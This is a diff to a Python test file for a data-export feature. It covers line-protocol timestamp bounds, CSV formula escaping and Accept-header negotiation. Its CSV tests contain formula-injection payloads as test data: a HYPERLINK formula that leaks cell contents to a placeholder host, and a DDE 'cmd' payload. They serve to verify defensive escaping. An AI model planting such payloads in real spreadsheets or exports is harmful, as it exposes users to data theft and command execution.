@@ -110,6 +110,23 @@ def test_line_protocol_refuses_a_line_break_rather_than_altering_it() -> None:
     assert raised.value.status == 400
 
 
+@pytest.mark.parametrize("time", [datetime(1, 1, 1, tzinfo=UTC), datetime(1677, 9, 21, 0, 12, 43, 145224, tzinfo=UTC),
+                                  datetime(2262, 4, 11, 23, 47, 16, 854776, tzinfo=UTC),
+                                  datetime(9999, 12, 31, tzinfo=UTC)])
+def test_line_protocol_refuses_a_time_beyond_64_bit_nanoseconds(time: datetime) -> None:
+    # InfluxDB refuses a whole write with such a line: an export must not hand one out as valid
+    with pytest.raises(HistoryFormatInvalid) as raised:
+        list(render_line_protocol([Point("ns:t", "/attributes/a", time, 1, 1)]))
+    assert raised.value.status == 400 and "csv or parquet" in (raised.value.description or "")
+
+
+@pytest.mark.parametrize("time", [datetime(1677, 9, 21, 0, 12, 43, 145225, tzinfo=UTC),
+                                  datetime(2262, 4, 11, 23, 47, 16, 854775, tzinfo=UTC)])
+def test_line_protocol_carries_the_first_and_last_times_of_64_bit_nanoseconds(time: datetime) -> None:
+    (line,) = render_line_protocol([Point("ns:t", "/attributes/a", time, 1, 1)])
+    assert -(2**63) <= int(line.split()[-1]) < 2**63
+
+
 def test_integers_beyond_int64_become_floats_in_line_protocol() -> None:
     (line,) = render_line_protocol([Point("ns:t", "/attributes/a", T0, 2**70, 1)])
     assert " value=1.1805916207174113e+21 " in line
@@ -124,12 +141,32 @@ def test_csv_reads_back_with_the_csv_module(points: list[Point]) -> None:
     rows = list(csv.reader(io.StringIO("".join(render_csv(points)), newline="")))
     assert tuple(rows[0]) == CSV_HEADER
     for point, (thing_id, path, time, value, revision) in zip(points, rows[1:], strict=True):
-        assert (thing_id, path, int(revision)) == (point.thing_id, point.path, point.revision)
+        assert (_text_of(thing_id), _text_of(path), int(revision)) == (point.thing_id, point.path, point.revision)
         assert datetime.fromisoformat(time) == point.time
         if isinstance(point.value, str):
-            assert value == point.value
+            assert _text_of(value) == point.value
         else:
             assert loads(value) == point.value and type(loads(value)) is type(point.value)
+
+
+def _text_of(cell: str) -> str:
+    """The text of a CSV text cell: one leading `'` removed where the export added it (the cell starts with `'`
+    and then a character a spreadsheet reads as a formula, or a second `'`)."""
+    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r", "'") else cell
+
+
+@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "'=1"])
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(text: str) -> None:
+    (row,) = list(csv.reader(io.StringIO("".join(render_csv([Point("ns:a", "attributes/s", T0, text, 1)])),
+                                         newline="")))[1:]
+    assert row[3] == "'" + text and _text_of(row[3]) == text
+
+
+def test_csv_numbers_and_plain_text_are_written_as_they_are() -> None:
+    points = [Point("ns:a", "attributes/n", T0, value, 1) for value in (-5, -0.5, "a=b", "", "hello")]
+    rows = list(csv.reader(io.StringIO("".join(render_csv(points)), newline="")))[1:]
+    assert [row[3] for row in rows] == ["-5", "-0.5", "a=b", "", "hello"]
 
 
 def test_an_empty_export_is_the_header_alone() -> None:
@@ -183,11 +220,28 @@ def test_parquet_times_are_utc_microseconds() -> None:
 @pytest.mark.parametrize(("param", "accept", "expected"), [
     ("csv", None, ExportFormat.CSV), ("Parquet", None, ExportFormat.PARQUET), ("lp", None, ExportFormat.LINE_PROTOCOL),
     ("line", "text/csv", ExportFormat.LINE_PROTOCOL), (None, "text/csv", ExportFormat.CSV),
-    (None, "application/json, application/vnd.apache.parquet;q=0.9", ExportFormat.PARQUET),
+    (None, "application/vnd.apache.parquet;q=0.9, application/json;q=0.5", ExportFormat.PARQUET),
     (None, "application/json", None), (None, None, None),
 ])
 def test_format_param_wins_over_accept(param: str | None, accept: str | None, expected: ExportFormat | None) -> None:
     assert choose_format(param, accept) is expected
+
+
+@pytest.mark.parametrize(("accept", "expected"), [
+    ("application/json, text/plain, */*", None),  # axios' default
+    ("application/json, text/csv", None),  # JSON written first, both q=1
+    ("text/csv;q=0.1, application/json", None),
+    ("text/csv, application/json;q=0.9", ExportFormat.CSV),
+    ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", None),  # a browser's
+    ("text/csv;q=0, application/vnd.apache.parquet;q=0.2", ExportFormat.PARQUET),
+    ("text/csv;q=0.000, */*;q=0.001", None),
+    ("TEXT/CSV; charset=utf-8", ExportFormat.CSV),
+    ("text/csv;q=nan, application/json;q=0.5", None), ("text/csv;q=2", None),  # malformed weights refuse
+    ("application/vnd.influx.line-protocol;q=0.8, text/csv;q=0.7", ExportFormat.LINE_PROTOCOL),
+])
+def test_accept_chooses_what_the_client_prefers_by_weight_then_order(accept: str,
+                                                                      expected: ExportFormat | None) -> None:
+    assert choose_format(None, accept) is expected
 
 
 def test_an_unknown_format_is_a_400() -> None:
